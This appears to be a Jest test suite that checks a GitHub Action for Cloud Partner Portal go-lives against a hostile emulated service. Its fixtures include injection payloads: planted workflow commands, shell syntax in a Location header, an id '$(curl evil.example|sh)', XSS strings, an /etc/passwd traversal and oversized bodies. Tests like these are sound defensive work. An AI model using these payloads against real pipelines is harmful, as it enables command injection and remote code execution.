// The committed bundle against a hostile or broken service: planted workflow commands, unsafe
// locations, malformed HTTP, bodies that are huge, endless or cut off, throttling past the timeout.
// Each test runs the action as the runner does and checks the log, outputs, summary and exit code.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { answer, endless, jsonAnswer, startHostileServer, type HostileServer, type Reply } from '../../emulator/hostile-server.js'
import { runAction, startAction, type RunResult } from '../../scripts/run-action.js'
import { onlyResults } from '../helpers/results-only.js'
import { onlyRow, textOutsideCode } from '../helpers/summary-rows.js'

const TOKEN = 'hostile-test-token'
const ID = 'contoso$contoso-vm$7$preview'
const LOCATION = `/api/operations/${ID}`
const RUNNING = [{ id: ID, submissionType: 'golive', submissionState: 'running', slot: 'production' }]

let server: HostileServer
beforeAll(async () => {
  server = await startHostileServer()
})
afterAll(() => server.close())
beforeEach(() => {
  server.requests.length = 0
})

interface Script {
  submissions?: (call: number) => Reply
  golive?: (call: number) => Reply
  operation?: (call: number) => Reply
}

const accepted = (): Reply => answer(202, { location: `${LOCATION}?api-version=2017-10-31` })
const body = (status: string, extra: Record<string, unknown> = {}): Reply => jsonAnswer(200, { status, steps: [], messages: [], ...extra })

/** Answers as a CPP service would, but for what the script changes. */
function play(script: Script): void {
  const calls = { submissions: 0, golive: 0, operation: 0 }
  server.handle((request) => {
    if (request.method === 'GET' && request.path.endsWith('/submissions/')) {
      return (script.submissions ?? (() => jsonAnswer(200, [])))(++calls.submissions)
    }
    if (request.method === 'POST' && request.path.endsWith('/golive')) return (script.golive ?? accepted)(++calls.golive)
    if (request.method === 'GET' && request.path.startsWith('/api/operations/')) {
      return (script.operation ?? (() => body('succeeded')))(++calls.operation)
    }
    return answer(404)
  })
}

const inputs = (extra: Record<string, string> = {}) => ({
  publisher: 'contoso',
  offer: 'contoso-vm',
  token: TOKEN,
  'base-url': server.url,
  'poll-interval': '20ms',
  ...extra
})
const log = (r: RunResult): string => r.stdout + r.stderr
const lines = (r: RunResult): string[] => log(r).split('\n')
const posts = () => server.requestsTo('POST', '/golive')

/**
 * Lines the runner would obey as commands that the action did not mean to send. The action's own
 * commands are annotations and debug lines (their data escaped by @actions/core) and the one mask.
 */
function plantedCommands(result: RunResult): string[] {
  return lines(result).filter(
    (l) => /^\s*(::|##\[)/.test(l) && !/^::(error|warning|notice|debug)::/.test(l) && l !== `::add-mask::${TOKEN}`
  )
}

/** A user sees words, never a stack trace or a bare exception name, for a fault of the service. */
function expectNoStack(result: RunResult): void {
  expect(log(result)).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m)
  expect(log(result)).not.toMatch(/Unexpected error|TypeError|RangeError/)
}

describe('no workflow commands from the network', () => {
  it('prints status, step names, estimates and messages as one harmless line each, with debug on', async () => {
    play({
      operation: (n) =>
        n === 1
          ? body('x\n::stop-commands::abc\nrunning', {
              steps: [
                {
                  id: 's1',
                  stepName: 'Live\n::add-mask::leak\r\n##[set-output name=status;]pwned',
                  status: 'inProgress',
                  estimatedTimeFrame: '\u2028::error::fake estimate'
                }
              ],
              messages: [{ messageHtml: '<p>ok</p>\n::warning file=x::planted', level: 'information' }]
            })
          : body('succeeded', { steps: [{ id: 's1', stepName: '::group::x', status: 'complete\n::endgroup::' }] })
    })
    const result = await runAction({ inputs: inputs({ wait: 'true' }), debug: true })
    expect(result.exitCode).toBe(0)
    expect(plantedCommands(result)).toEqual([])
    // The text is still there to read, on the line of the action's own sentence.
    expect(result.stdout).toContain('Operation status: x ::stop-commands::abc running')
    expect(result.stdout).toContain(
      "Now at step 'Live ::add-mask::leak ##[set-output name=status;]pwned' (inProgress, estimated : :error::fake estimate)"
    )
    expect(result.stdout).toContain('Message: ok ::warning file=x::planted')
    expect(result.summary).not.toMatch(/^::/m)
  })

  it('quotes an error body without letting it start a line, and fails in words', async () => {
    play({
      submissions: () =>
        jsonAnswer(404, { error: { code: 'Nope\n::add-mask::x', message: 'gone\r\n::stop-commands::zz\n##[error]planted' } })
    })
    const result = await runAction({ inputs: inputs(), debug: true })
    expect(result.exitCode).toBe(1)
    expect(plantedCommands(result)).toEqual([])
    expect(result.stdout).toContain(
      "::error::Listing the offer's submissions failed: HTTP 404 Not Found (Nope ::add-mask::x: gone ::stop-commands::zz ##[error]planted)."
    )
    expect(posts()).toHaveLength(0)
  })

  it('a status that itself starts with :: is broken up at the start of the line', async () => {
    play({ operation: () => body('::stop-commands::tok') })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION }) })
    expect(plantedCommands(result)).toEqual([])
    expect(result.stdout).toContain('Operation status: : :stop-commands::tok')
    expect(result.stdout).toContain(
      "::warning::The service reported an operation status the action does not know (': :stop-commands::tok')"
    )
  })
})

describe('names Object.prototype carries are no state', () => {
  // made-up: no service sends these; a proxy or a broken gateway can (found by differential testing).
  it.each(['__proto__', 'constructor'])('a status %s is unknown and still going: the wait times out, never success', async (name) => {
    play({ operation: () => body(name) })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION, wait: 'true', timeout: '300ms' }) })
    expect(result.exitCode).toBe(1)
    expect(result.outputs.status).toBe('running')
    expect(result.stdout).toContain(`The service reported an operation status the action does not know ('${name}')`)
    expect(result.stdout).toMatch(/::error::Timed out after 300ms waiting for the go-live/)
  })
})

describe('outputs are safe to use', () => {
  it('writes operation-location and operation-id only in their canonical, shell-inert forms', async () => {
    play({})
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(0)
    expect(result.outputs['operation-location']).toBe(`${server.url}${LOCATION}?api-version=2017-10-31`)
    expect(result.outputs['operation-id']).toBe(ID)
    // `results` is JSON by design (read it through env: and jq): its values are the same canonical ones.
    const { results, ...plain } = result.outputs
    for (const value of Object.values(plain)) expect(value).not.toMatch(/[\s;&|<>`'"\\(){}]/)
    expect(JSON.parse(results as string)).toEqual([
      {
        offer: 'contoso-vm',
        api: 'cloud-partner-portal',
        status: 'accepted',
        'operation-location': plain['operation-location'],
        'operation-id': ID,
        'offer-status': '',
        error: ''
      }
    ])
  })

  it.each([
    ['an unparsable Location', 'https://exa mple.com/x', 'sent an operation location that contains white space'],
    ['shell syntax in the Location', `${LOCATION};touch$IFS/tmp/pwned`, 'sent an operation location that is not a CPP operation path'],
    ['a javascript: Location', 'javascript:alert(document.domain)', 'sent an operation location that is neither an http(s) URL nor a path'],
    [
      'a Location on another host',
      `https://attacker.example${LOCATION}`,
      'sent an operation location that points to https://attacker.example'
    ]
  ])('%s: no output, no GET of it, and the go-live it started is looked for', async (_what, location, problem) => {
    play({ golive: () => answer(202, { location }) })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(1)
    expect(onlyResults(result.outputs).error).not.toBe('')
    expect(result.stdout).toMatch(
      new RegExp(
        `^::error::The go-live may have started: .*The Go Live request was accepted \\(HTTP 202\\), but the service ${problem.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`,
        'm'
      )
    )
    expect(result.stdout).toContain('The go-live may have started: run the step again to follow it')
    expect(server.requestsTo('GET', '/api/operations/')).toHaveLength(0)
    expect(posts()).toHaveLength(1)
    // Named in words at most: never a link, and never a URL GitHub would turn into one (as code, if at all).
    expect(result.summary).not.toMatch(/\]\(|javascript:alert/)
    expect(textOutsideCode(result.summary)).not.toMatch(/https?:\/\/(attacker|exa)|:\/\//)
    expectNoStack(result)
  })

  it('follows a go-live listed after an unusable 202, still with one POST', async () => {
    play({ golive: () => answer(202, { location: 'https://exa mple.com/x' }), submissions: (n) => jsonAnswer(200, n === 1 ? [] : RUNNING) })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expect(posts()).toHaveLength(1)
    expect(result.outputs['operation-location']).toBe(`${server.url}${LOCATION}?api-version=2017-10-31`)
    expect(result.outputs.status).toBe('succeeded')
  })

  it('never follows nor re-triggers a running go-live listed under an unsafe id', async () => {
    play({ submissions: () => jsonAnswer(200, [{ ...RUNNING[0], id: '$(curl evil.example|sh)' }]) })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain(
      "::error::A go-live of contoso/contoso-vm is already running, but the service lists it under an id the action does not accept ('$(curl evil.example|sh)')"
    )
    expect(posts()).toHaveLength(0)
    expect(onlyResults(result.outputs).error).not.toBe('')
  })
})

describe('no crash after success', () => {
  it('a body nested 8,000 levels deep: the go-live still succeeds, with outputs and summary', async () => {
    const deep = `${'['.repeat(8_000)}1${']'.repeat(8_000)}`
    play({ operation: () => answer(200, { 'content-type': 'application/json' }, `{"status":"succeeded","steps":[],"extra":${deep}}`) })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expect(result.outputs.status).toBe('succeeded')
    const operation = JSON.parse(result.outputs.operation as string) as { status: string; extra: unknown }
    expect(operation.status).toBe('succeeded')
    expect(JSON.stringify(operation.extra)).toContain('[nested too deep]')
    expect(onlyRow(result.summary)[1]).toBe('✅ succeeded')
    expectNoStack(result)
  })
})

describe('an answer to the POST that cannot be read is looked for: re-sent once only when its status could not be read', () => {
  const malformed: Array<[string, string]> = [
    ['an overlong header', `HTTP/1.1 202 Accepted\r\nlocation: ${LOCATION}\r\nx-pad: ${'a'.repeat(100_000)}\r\n\r\n`],
    ['a folded header', `HTTP/1.1 202 Accepted\r\nlocation: ${LOCATION}\r\n  ?api-version=2017-10-31\r\ncontent-length: 0\r\n\r\n`],
    ['a bad status line', 'HTTP/1.1 2O2 Accepted\r\ncontent-length: 0\r\n\r\n'],
    ['a body cut off', `HTTP/1.1 202 Accepted\r\nlocation: ${LOCATION}\r\ncontent-length: 500\r\n\r\n{"partial":`]
  ]

  it.each(malformed)('%s: follows the go-live it finds, one POST', async (_what, raw) => {
    play({ golive: () => raw, submissions: (n) => jsonAnswer(200, n === 1 ? [] : RUNNING) })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(0)
    expect(posts()).toHaveLength(1)
    expect(result.stdout).toMatch(
      /::warning::The Go Live request got no clear answer: .*\. The go-live has probably started; looking for it/
    )
    expect(result.outputs['operation-id']).toBe(ID)
    expectNoStack(result)
  })

  it('a 503 cut off mid-body is no refusal to rely on: never re-sent, and the go-live listed at the fifth look is followed', async () => {
    const cut = 'HTTP/1.1 503 Service Unavailable\r\ncontent-type: application/json\r\ncontent-length: 500\r\n\r\n{"error":'
    // The check before the request and four looks list nothing; the fifth look lists the go-live.
    play({ golive: () => cut, submissions: (n) => jsonAnswer(200, n <= 5 ? [] : RUNNING) })
    const result = await runAction({ inputs: inputs() })
    expect(posts()).toHaveLength(1)
    expect(result.exitCode).toBe(0)
    expect(result.outputs['operation-id']).toBe(ID)
    expect(server.requestsTo('GET', '/submissions/')).toHaveLength(6)
    expectNoStack(result)
  })

  it.each(malformed)('%s: says the go-live may have started when none is listed, never a third POST', async (what, raw) => {
    play({ golive: () => raw })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    // An answer whose 202 could be read (before its body was cut, or its header broke the parser) is
    // an acceptance: never sent again. One whose status could not be read is ambiguous: sent once more
    // after a whole look found no go-live, and no more.
    expect(posts()).toHaveLength(what === 'a bad status line' ? 2 : 1)
    expect(onlyResults(result.outputs)).toMatchObject({ status: 'unknown' })
    expect(result.stdout).toContain('The go-live may have started: run the step again to follow it')
    expectNoStack(result)
  })
})

describe('bounded memory and time per request', () => {
  it('an endless status body is cut at the cap, each connection closed; the wait ends in words', async () => {
    const chunk = Buffer.alloc(256 * 1024, 'a')
    play({ operation: () => endless('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n', chunk, 1) })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION, wait: 'true', timeout: '2s' }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain('was larger than 4 MiB, so it was not read')
    expect(result.stdout).toMatch(/The status could not be read for .* polls in a row\), longer than the wait tolerates/)
    const reads = server.requestsTo('GET', '/api/operations/')
    expect(reads.length).toBeGreaterThanOrEqual(3)
    for (const read of reads) expect(read.closedAt).toBeDefined()
    // Each read stops at 4 MiB: the process stays near its idle size, far from gigabytes.
    expect(result.peakRssMb).toBeLessThan(250)
  })

  it('a declared Content-Length over the cap is refused without reading the body', async () => {
    play({ operation: (n) => (n === 1 ? 'HTTP/1.1 200 OK\r\ncontent-length: 1000000000\r\n\r\n{' : body('succeeded')) })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION, wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expect(result.stdout).toContain('::warning::Poll 1 missed: Reading the operation status failed: the answer from')
    expect(result.stdout).toContain('was larger than 4 MiB')
  })

  it('a body cut off mid-stream fails that attempt at once, not at the request deadline', async () => {
    play({ operation: (n) => (n <= 2 ? 'HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n{"status":"runn' : body('succeeded')) })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION, wait: 'true', 'request-timeout': '10m' }) })
    expect(result.exitCode).toBe(0)
    expect(result.stdout).toContain('closed before the whole answer arrived; retrying')
    // A cut-off answer waited for until the 10-minute request deadline would hold the run that long.
    expect(result.durationMs).toBeLessThan(60_000)
  })

  it('a trickling answer is dropped at the request deadline: its socket closes before the retry', async () => {
    play({
      operation: (n) => (n === 1 ? endless('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n', ' ', 10) : body('succeeded'))
    })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION, wait: 'true', 'request-timeout': '300ms' }) })
    expect(result.exitCode).toBe(0)
    const [first, second] = server.requestsTo('GET', '/api/operations/')
    expect(first?.closedAt).toBeDefined()
    expect(first!.closedAt!).toBeLessThanOrEqual(second!.at)
    expect(first!.closedAt! - first!.at).toBeGreaterThanOrEqual(290)
    expect(result.stdout).toMatch(/the answer from 127\.0\.0\.1:\d+ \(HTTP 200\) did not finish within 300ms; retrying/)
  })
})

describe('timers and the deadline', () => {
  it('a Retry-After beyond the timer range is clamped to the deadline: no burst of polls', async () => {
    play({ operation: () => jsonAnswer(200, { status: 'running' }, { 'retry-after': '99999999999' }) })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION, wait: 'true', timeout: '1s' }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain('::error::Timed out after 1s waiting for the go-live of contoso/contoso-vm.')
    expect(server.requestsTo('GET', '/api/operations/')).toHaveLength(1)
  })

  it('timeout is a hard deadline: a throttling service cannot stretch it with Retry-After', async () => {
    play({ operation: () => jsonAnswer(429, { error: { code: 'TooManyRequests', message: 'slow down' } }, { 'retry-after': '8' }) })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION, wait: 'true', timeout: '1s' }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain('::error::Timed out after 1s waiting for the go-live')
    // One Retry-After alone asks for 8 s; the deadline ends the wait at 1 s.
    expect(result.durationMs).toBeLessThan(6_000)
    expect(server.requestsTo('GET', '/api/operations/')).toHaveLength(1)
  })

  it('refuses durations beyond the timer range before any request', async () => {
    const result = await runAction({ inputs: inputs({ 'poll-interval': '25d', wait: 'true' }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain("::error::Input 'poll-interval' must be at most 1d")
    expect(server.requests).toHaveLength(0)
  })
})

describe('the job summary stays safe and small', () => {
  it('30,000 hostile steps: escaped, cut with a note, summary and outputs far below 1 MiB, a bounded log', async () => {
    // About 3 MB: under the 4 MiB read cap, far over what a summary or an output may hold.
    const steps = Array.from({ length: 30_000 }, (_, i) => ({
      id: `s${i}`,
      stepName: `<img src=x onerror=alert(${i})>[click](javascript:alert(1))`,
      status: i % 2 ? 'failed' : 'inProgress',
      ...(i < 100 ? { messages: [{ messageHtml: '&lt;script&gt;alert(1)&lt;/script&gt; see https://evil.example', level: 'error' }] } : {})
    }))
    play({ operation: () => jsonAnswer(200, { status: 'failed', steps }) })
    const result = await runAction({ inputs: inputs({ 'operation-location': LOCATION }) })
    expect(result.exitCode).toBe(1)
    expect(result.summary.length).toBeLessThan(100_000)
    // No raw HTML, no link (a `]` not escaped, then `(`), no URL GitHub would link by itself.
    expect(result.summary).not.toMatch(/<img|<script|(^|[^\\])\]\(javascript:/i)
    expect(textOutsideCode(result.summary)).not.toMatch(/https:\/\/evil|&#\d+;/i)
    expect(result.summary).toContain('| &lt;img src=x onerror=alert(0)&gt;\\[click\\](javascript:alert(1)) | inProgress |')
    expect(result.summary).toContain('&lt;script&gt;alert(1)&lt;/script&gt; see `https://evil.example`')
    expect(result.summary).toContain('…and 29950 more steps')
    expect((result.outputs.operation as string).length).toBeLessThan(300 * 1024)
    expect(JSON.parse(result.outputs.operation as string).steps.at(-1)).toBe('[29000 more items]')
    expect(log(result).length).toBeLessThan(200_000)
    expect(result.stdout).toMatch(/::error::The go-live failed: .*; and \d+ more \(the job summary lists the first\)/)
  })
})

describe('wording', () => {
  it('a token with a line break is refused naming the input, never printed', async () => {
    const result = await runAction({ inputs: inputs({ token: 'abc\n::stop-commands::x' }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain("::error::Input 'token' must be a bearer token on one line")
    expect(lines(result).filter((l) => l.includes('abc') && !l.startsWith('::add-mask::'))).toEqual([])
    expect(server.requests).toHaveLength(0)
  })

  it('an input error still writes the job summary', async () => {
    const result = await runAction({ inputs: inputs({ 'operation-location': '/api/../../etc/passwd' }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain("::error::Input 'operation-location' contains a '.' or '..' path segment")
    expect(result.summary).toContain('## Go live: contoso/contoso-vm')
    expect(result.summary).toContain('**Result:** ⛔ not started.')
    expect(result.summary).toContain("Input 'operation-location' contains a '.' or '..' path segment")
    expect(server.requests).toHaveLength(0)
  })

  it('SIGTERM during the pre-check says no Go Live request was sent', async () => {
    play({ submissions: () => 'hang' })
    const running = startAction({ inputs: inputs() })
    while (server.requestsTo('GET', '/submissions').length === 0) await new Promise((resolve) => setTimeout(resolve, 5))
    running.child.kill('SIGTERM')
    const result = await running.result
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain(
      '::error::Received SIGTERM: the workflow is being cancelled, before the go-live request of contoso/contoso-vm was sent: nothing was sent.'
    )
    expect(posts()).toHaveLength(0)
  })
})
